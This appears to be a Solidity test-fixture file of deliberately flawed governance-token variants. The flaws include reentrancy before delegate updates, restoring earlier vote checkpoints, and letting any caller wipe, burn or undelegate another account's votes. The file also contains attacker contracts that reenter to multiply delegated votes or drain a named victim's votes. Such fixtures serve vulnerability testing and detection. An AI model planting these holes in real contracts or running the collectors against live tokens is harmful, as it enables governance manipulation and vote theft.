// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {CheckpointToken} from "./Checkpoints.sol";

// Tokens whose votes an account keeps, takes or removes in one function more than an honest token has.

interface Told { function told() external; }

/// The balance and the delegate were read before the new delegate is told.
contract ToldFirst is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function delegateAndCall(address to) external {
        (uint96 amount, address old) = (balanceOf[msg.sender], delegates[msg.sender]);
        Told(to).told();
        delegates[msg.sender] = to;
        _move(old, to, amount);
    }
}
contract Teller { constructor(address to) { Told(to).told(); } }
/// A contract that it creates tells the new delegate.
contract ToldByNew is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function delegateAndCall(address to) external {
        (uint96 amount, address old) = (balanceOf[msg.sender], delegates[msg.sender]);
        new Teller(to);
        delegates[msg.sender] = to;
        _move(old, to, amount);
    }
}
/// Only the delegate was read before.
contract OldDelegate is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function delegateAndCall(address to) external {
        address old = delegates[msg.sender];
        Told(to).told();
        delegates[msg.sender] = to;
        _move(old, to, balanceOf[msg.sender]);
    }
}
/// The receiver is told after it has the tokens, and before it has their votes.
contract ToldBetween is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function sendAndCall(address to, uint96 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        Told(to).told();
        _move(delegates[msg.sender], delegates[to], amount);
    }
}
/// The token calls its own transfer, which the holder allowed it.
contract OwnTransfer is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function delegateAndSend(address to, address other) external {
        (uint96 amount, address old) = (balanceOf[msg.sender], delegates[msg.sender]);
        this.transferFrom(msg.sender, other, amount);
        delegates[msg.sender] = to;
        _move(old, to, amount);
    }
}

/// An account has the votes again that it had once.
contract EarlierVotes is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function again(uint32 at) external { _write(msg.sender, numCheckpoints[msg.sender], 0, checkpoints[msg.sender][at].votes); }
}
contract PreviousVotes is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function again() external {
        uint32 count = numCheckpoints[msg.sender];
        _write(msg.sender, count, 0, checkpoints[msg.sender][count - 2].votes);
    }
}
contract SignedEarlierVotes is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function againFor(address account, uint32 at, uint8 v, bytes32 r, bytes32 s) external {
        address signer = ecrecover(_digest(keccak256(abi.encode(account, at, nonces[account]++))), v, r, s);
        require(signer != address(0));
        require(signer == account);
        _write(account, numCheckpoints[account], 0, checkpoints[account][at].votes);
    }
}
/// The last entry becomes one of now, so that an earlier one was the last before.
contract RenewedVotes is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function renew() external { checkpoints[msg.sender][numCheckpoints[msg.sender] - 1].fromBlock = uint32(block.number); }
}

// Every caller removes the votes of others.
contract ClearedCount is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function clear(address account) external { numCheckpoints[account] = 0; }
}
contract DeletedEntry is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function clear(address account) external { delete checkpoints[account][numCheckpoints[account] - 1]; }
}
contract RenewedByOthers is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function clear(address account) external { checkpoints[account][numCheckpoints[account] - 1].fromBlock = uint32(block.number); }
}
contract ZeroVotes is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function clear(address account) external {
        uint32 count = numCheckpoints[account];
        _write(account, count, checkpoints[account][count - 1].votes, 0);
    }
}
contract BurntByOthers is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function clear(address account) external {
        uint96 amount = balanceOf[account];
        balanceOf[account] = 0;
        _move(delegates[account], address(0), amount);
    }
}
contract UndelegatedByOthers is CheckpointToken {
    constructor(address holder) CheckpointToken(holder) {}
    function clear(address account) external {
        address old = delegates[account];
        delegates[account] = address(0);
        _move(old, address(0), balanceOf[account]);
    }
}

interface VotingTokens {
    function transfer(address to, uint96 amount) external returns (bool);
    function approve(address spender, uint96 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint96);
    function delegate(address to) external;
    function delegateAndCall(address to) external;
    function delegateAndSend(address to, address other) external;
    function sendAndCall(address to, uint96 amount) external;
}
/// An account of the attacker that votes with more than it has.
abstract contract Collector {
    VotingTokens internal immutable token;
    constructor(VotingTokens token_) { token = token_; }
    function act(address target, bytes calldata data) external { (bool ok,) = target.call(data); require(ok); }
}
/// Holds tokens for a moment.
contract Pocket {
    VotingTokens private immutable token;
    address private immutable owner = msg.sender;
    constructor(VotingTokens token_) { token = token_; }
    function run() external { token.delegateAndCall(owner); }
    function back() external { token.transfer(owner, token.balanceOf(address(this))); }
    function told() external { token.delegate(owner); }
    function pass(address next) external { token.sendAndCall(next, token.balanceOf(address(this))); }
    function send(address next) external {
        token.approve(address(token), type(uint96).max);
        token.delegateAndSend(owner, next);
    }
}
/// The same tokens are delegated again and again: they come back while the delegate is told.
contract BackCollector is Collector {
    Pocket private pocket;
    constructor(VotingTokens token_) Collector(token_) {}
    function go() external {
        for (uint256 n; n < 6; ++n) {
            pocket = new Pocket(token);
            token.transfer(address(pocket), token.balanceOf(address(this)));
            pocket.run();
        }
    }
    function told() external { pocket.back(); }
}
/// Tokens that go from pocket to pocket.
contract ChainCollector is Collector {
    constructor(VotingTokens token_) Collector(token_) {}
    function go(bool isOwn) external {
        Pocket last = new Pocket(token);
        token.transfer(address(last), token.balanceOf(address(this)));
        for (uint256 n; n < 6; ++n) {
            Pocket next = new Pocket(token);
            if (isOwn) last.send(address(next)); else last.pass(address(next));
            last = next;
        }
    }
}
/// Takes the votes of a delegate that it names and leaves at once.
contract DrainCollector is Collector {
    address private immutable victim;
    constructor(VotingTokens token_, address victim_) Collector(token_) { victim = victim_; }
    function go() external {
        for (uint256 n; n < 6; ++n) {
            token.delegate(victim);
            token.delegateAndCall(address(this));
        }
    }
    function told() external { token.delegate(address(this)); }
}
